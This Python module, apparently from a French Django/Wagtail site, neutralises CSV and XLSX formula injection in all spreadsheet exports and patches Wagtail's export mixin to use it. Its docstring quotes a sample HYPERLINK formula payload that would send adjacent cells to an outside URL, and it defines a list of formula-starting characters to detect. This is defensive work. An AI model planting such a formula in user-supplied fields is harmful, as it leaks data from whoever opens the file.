"""Spreadsheets that leave the platform (CSV, XLSX): one rule for every export.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (some
skip a leading tab or carriage return first), and anyone can type a first name or a
title: `=HYPERLINK("http://…?x="&A1;"Cliquez")` would send the cells beside it away
in one click (OWASP, « CSV injection »). So every export, the admin's reports as
much as the trainer's list of participants, writes its cells through here:

- CSV has no types: a text that would start a formula gets a leading apostrophe
  (OWASP's advice; the apostrophe shows, CSV has nothing better). Real numbers stay
  numbers (`-3`, with the decimal comma for `-2,5`). UTF-8 with a BOM (Excel reads
  the accents right only then) and `;` between cells, as French spreadsheets expect.
- XLSX has types: a text is always a text cell (type `s`), never a formula, with
  no apostrophe to see. One that looks like a formula also gets Excel's « quote
  prefix », so that editing the cell later keeps it text.
- Dates and times are Paris time (the site's TIME_ZONE), as people read them on
  the site, whatever zone the admin shows a person; Wagtail writes UTC. File names
  are French, ASCII, dated in Paris (`guides-a-revoir-2026-03-02.csv`).

Wagtail's listings export through `SpreadsheetExportMixin`, which leaves CSV cells
as they are, separates them with commas and names files in English.
`SpreadsheetExport` overrides its writers; `apply_to_wagtail()`, called once at
start-up (`CoreConfig.ready`), gives them to Wagtail's own reports too (site
history, locked pages, workflows, search terms, redirects…), which live in its
URLconf where no subclass of ours can replace them.
https://owasp.org/www-community/attacks/CSV_Injection
"""

import csv
import datetime
import decimal
import io
import re

from django.conf import settings
from django.core.exceptions import ImproperlyConfigured
from django.http import FileResponse, HttpResponse, StreamingHttpResponse
from django.utils import timezone, translation
from django.utils.encoding import force_str
from django.utils.http import content_disposition_header
from django.utils.text import slugify
from wagtail.admin.views.mixins import ExcelDateFormatter, SpreadsheetExportMixin

#: What a spreadsheet may read as the start of a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CSV_DELIMITER = ";"
BOM = "\ufeff"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
#: Longest file-name stem kept whole by every browser and file system we know of.
STEM_MAX_LENGTH = 80
#: Characters Excel refuses in a sheet title, and its length limit.
SHEET_TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
SHEET_TITLE_MAX_LENGTH = 31


def starts_formula(value):
    return isinstance(value, str) and value.startswith(FORMULA_START)


# --- Values ------------------------------------------------------------------------------------


def paris_naive(value):
    """An aware datetime as the wall-clock time in Paris (spreadsheets have no zones)."""
    if timezone.is_naive(value):
        return value
    return timezone.make_naive(value, timezone.get_default_timezone())


def paris_today():
    return timezone.localdate(timezone=timezone.get_default_timezone())


def plain_value(value):
    """What a cell can hold: None, a number, a date or time, or a text."""
    if value is None or isinstance(value, (str, int, float, decimal.Decimal)):
        return value
    if isinstance(value, datetime.datetime):
        return paris_naive(value)
    if isinstance(value, (datetime.date, datetime.time)):
        return value
    return force_str(value)  # lazy translations, model instances, UUIDs…


# --- CSV ---------------------------------------------------------------------------------------


def csv_cell(value):
    """One CSV cell: numbers as numbers (decimal comma), texts inert."""
    value = plain_value(value)
    if value is None:
        return ""
    if isinstance(value, (bool, int)):
        return value  # `-3` as it is: the spreadsheet reads a number
    if isinstance(value, (float, decimal.Decimal)):
        return str(value).replace(".", ",")
    if isinstance(value, datetime.datetime):
        return f"{value:%Y-%m-%d %H:%M:%S}"
    if isinstance(value, (datetime.date, datetime.time)):
        return value.isoformat()
    return "'" + value if starts_formula(value) else value


def csv_row(values):
    return [csv_cell(value) for value in values]


class _Line:
    """The file-like object a csv writer needs to hand each line back (streaming)."""

    def write(self, line):
        return line


def csv_writer():
    return csv.writer(_Line(), delimiter=CSV_DELIMITER)


def csv_lines(rows):
    """The CSV file, line by line, BOM first: `rows` are lists of raw values."""
    writer = csv_writer()
    yield BOM
    for row in rows:
        yield writer.writerow(csv_row(row))


def csv_response(rows, *, filename):
    response = HttpResponse("".join(csv_lines(rows)), content_type=CSV_CONTENT_TYPE)
    response["Content-Disposition"] = content_disposition_header(True, filename)
    return response


# --- XLSX --------------------------------------------------------------------------------------


def xlsx_cell(worksheet, value, *, number_format=None):
    """One cell of a write-only sheet: a text is a text cell, never a formula."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    value = plain_value(value)
    if isinstance(value, str):
        # Control characters make openpyxl refuse the whole file (a 500 for everyone).
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell = WriteOnlyCell(worksheet, value)
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl takes a text starting with "=" for a formula
        if starts_formula(value):
            cell.quotePrefix = True  # what Excel stores for a typed '=…: shown without the '
    if number_format:
        cell.number_format = number_format
    return cell


def xlsx_row(worksheet, values):
    return [xlsx_cell(worksheet, value) for value in values]


def sheet_title(title):
    title = SHEET_TITLE_FORBIDDEN.sub(" ", force_str(title)).strip()
    return title[:SHEET_TITLE_MAX_LENGTH] or "Export"


def new_workbook(title):
    """A write-only workbook (rows go straight to the file) and its one sheet."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True, iso_dates=True)
    return workbook, workbook.create_sheet(title=sheet_title(title))


def xlsx_response(rows, *, filename, title):
    workbook, worksheet = new_workbook(title)
    for row in rows:
        worksheet.append(xlsx_row(worksheet, row))
    output = io.BytesIO()
    workbook.save(output)
    response = HttpResponse(output.getvalue(), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = content_disposition_header(True, filename)
    return response


# --- File names --------------------------------------------------------------------------------


def dated_filename(stem, extension, day=None):
    """`<stem>-<YYYY-MM-DD>.<extension>`: ASCII, the day of the export in Paris."""
    stem = slugify(force_str(stem))[:STEM_MAX_LENGTH].strip("-") or "export"
    return f"{stem}-{day or paris_today():%Y-%m-%d}.{extension}"


# --- Wagtail's listings ------------------------------------------------------------------------


class SpreadsheetExport(SpreadsheetExportMixin):
    """Wagtail's `SpreadsheetExportMixin`, written by the rule above.

    `get_filename()` is not used: Wagtail's own reports override it with English
    names. The file is named after `export_stem`, or the page title in French.
    """

    #: French stem of the file name (`journal-audit`); the date is added.
    export_stem = None

    custom_value_preprocess = {
        **SpreadsheetExportMixin.custom_value_preprocess,
        # Paris time, not Wagtail's UTC (CSV cells get it from `csv_cell`).
        datetime.datetime: {SpreadsheetExportMixin.FORMAT_XLSX: paris_naive},
    }

    def export_file_name(self, extension):
        stem = self.export_stem
        if not stem:
            with translation.override(settings.LANGUAGE_CODE):
                stem = force_str(self.get_page_title() if hasattr(self, "get_page_title") else "")
        return dated_filename(stem or self.get_filename(), extension)

    def export_sheet_title(self):
        return self.get_page_title() if hasattr(self, "get_page_title") else ""

    def export_headings_row(self, queryset):
        return [self.get_heading(queryset, field) for field in self.list_export]

    def stream_csv(self, queryset):
        writer = csv_writer()
        yield BOM.encode()
        yield writer.writerow(csv_row(self.export_headings_row(queryset))).encode()
        for item in queryset:
            yield self.write_csv_row(writer, self.to_row_dict(item)).encode()

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            csv_row(
                self.preprocess_field_value(field, value, self.FORMAT_CSV)
                for field, value in row_dict.items()
            )
        )

    def write_csv_response(self, queryset):
        response = StreamingHttpResponse(self.stream_csv(queryset), content_type=CSV_CONTENT_TYPE)
        response["Content-Disposition"] = content_disposition_header(
            True, self.export_file_name("csv")
        )
        return response

    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for field, value in row_dict.items():
            yield xlsx_cell(
                worksheet,
                self.preprocess_field_value(field, value, self.FORMAT_XLSX),
                number_format=date_format if isinstance(value, datetime.datetime) else None,
            )

    def write_xlsx(self, queryset, output):
        workbook, worksheet = new_workbook(self.export_sheet_title())
        worksheet.append(xlsx_row(worksheet, self.export_headings_row(queryset)))
        date_format = ExcelDateFormatter().get()
        for item in queryset:
            worksheet.append(
                self.generate_xlsx_row(worksheet, self.to_row_dict(item), date_format=date_format)
            )
        workbook.save(output)

    def write_xlsx_response(self, queryset):
        output = io.BytesIO()
        self.write_xlsx(queryset, output)
        output.seek(0)
        return FileResponse(
            output,
            as_attachment=True,
            filename=self.export_file_name("xlsx"),
            content_type=XLSX_CONTENT_TYPE,
        )


#: What `apply_to_wagtail` copies onto Wagtail's mixin.
RULE_ATTRIBUTES = (
    "custom_value_preprocess",
    "stream_csv",
    "write_csv_row",
    "write_csv_response",
    "generate_xlsx_row",
    "write_xlsx",
    "write_xlsx_response",
)
RULE_ADDITIONS = ("export_stem", "export_file_name", "export_sheet_title", "export_headings_row")


def apply_to_wagtail():
    """Every listing built on Wagtail's `SpreadsheetExportMixin` exports by the rule.

    Wagtail 8 has no setting for its CSV writer, and its own reports are routed
    before any URL of ours. A Wagtail release that renames one of these methods
    stops the start-up here instead of exporting live formulas again.
    """
    missing = [name for name in RULE_ATTRIBUTES if not hasattr(SpreadsheetExportMixin, name)]
    if missing:
        raise ImproperlyConfigured(
            f"SpreadsheetExportMixin has no {', '.join(missing)}: core/spreadsheets.py "
            "must follow Wagtail's export methods."
        )
    for name in RULE_ATTRIBUTES + RULE_ADDITIONS:
        setattr(SpreadsheetExportMixin, name, SpreadsheetExport.__dict__[name])
